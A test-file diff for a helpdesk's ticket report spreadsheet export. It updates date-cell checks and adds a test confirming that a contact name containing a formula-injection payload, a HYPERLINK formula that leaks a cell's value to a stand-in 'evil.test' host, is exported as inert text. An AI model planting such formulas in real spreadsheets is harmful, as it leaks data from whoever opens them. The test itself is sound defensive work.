@@ -74,7 +74,12 @@ describe('tickets report', () => {
     expect(sheet.rowCount).toBe(9);
     expect(sheet.getRow(2).getCell(1).value).toBe(tickets[11]);
     expect(sheet.getRow(2).getCell(4).value).toBe(contacts[11]!.number);
-    expect(String(sheet.getRow(2).getCell(9).value)).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
+    // Abertura and Fechamento are date cells (the company's wall-clock time) with a date-time format.
+    const opened = sheet.getRow(2).getCell(9);
+    expect(opened.value).toBeInstanceOf(Date);
+    expect(opened.numFmt).toBe('dd/mm/yyyy hh:mm');
+    expect(Math.abs((opened.value as Date).getTime() - Date.now())).toBeLessThan(15 * 3_600_000);
+    expect(sheet.getRow(2).getCell(10).value).toBeNull();
   });
 
   it('masks numbers for a plain user while lgpdHideNumber is on', async () => {
@@ -111,5 +116,20 @@ describe('tickets report', () => {
     expect(seen.contactName).toContain('*');
     const whole = (await call(admin.token, 'GET', url)).json().tickets.find((t: { id: number }) => t.id === ticket.json().id);
     expect(whole.contactName).toBe('5521977999999');
+  });
+});
+
+describe('tickets report spreadsheet cells', () => {
+  it('writes a name that a spreadsheet would run as text (a leading apostrophe), and closed tickets with a closing date cell', async () => {
+    const planted = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
+    const contact = await call(admin.token, 'POST', '/contacts', { name: planted, number: '5521977999001' });
+    expect(contact.statusCode, contact.body).toBe(201);
+    const ticket = await call(admin.token, 'POST', '/tickets', { contactId: contact.json().id, status: 'open', userId: admin.userId });
+    expect((await call(admin.token, 'PUT', `/tickets/${ticket.json().id}`, { status: 'closed' })).statusCode).toBe(200);
+    const response = await call(admin.token, 'GET', `/ticket/reports/export?contactId=${contact.json().id}`);
+    const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
+    expect(sheet.getRow(2).getCell(3).value).toBe(`'${planted}`);
+    expect(sheet.getRow(2).getCell(10).value).toBeInstanceOf(Date);
+    expect(sheet.getRow(2).getCell(10).numFmt).toBe('dd/mm/yyyy hh:mm');
   });
 });
